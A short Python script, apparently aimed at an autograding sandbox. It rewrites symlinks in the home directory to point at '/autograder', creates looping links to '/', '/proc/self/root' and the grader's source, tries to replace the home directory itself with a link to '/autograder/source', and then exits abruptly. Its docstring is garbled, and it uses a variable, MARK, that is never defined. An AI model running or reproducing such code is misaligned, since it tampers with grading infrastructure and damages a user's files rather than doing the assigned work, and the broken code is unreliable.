"""Idea: the home, its exercise files and its folders are replaced by links and by loops of links.
Must: be followed by nobody; what is removed afterwards is removed inside.
"""

import os
import shutil

home = os.path.expanduser("~")
for name in os.listdir(home):
    path = os.path.join(home, name)
    if os.path.islink(path):
        os.unlink(path)
        os.symlink("/autograder", path)
for number, target in enumerate(
    ["/", "/autograder/source", "..", "/proc/self/root", f"{home}/x-5", f"{home}/x-4"]
):
    os.symlink(target, f"{home}/x-{number}")
try:
    os.rename(home, f"{os.path.dirname(home)}/{MARK}")
    os.symlink("/autograder/source", home)
except OSError:
    pass
os._exit(0)
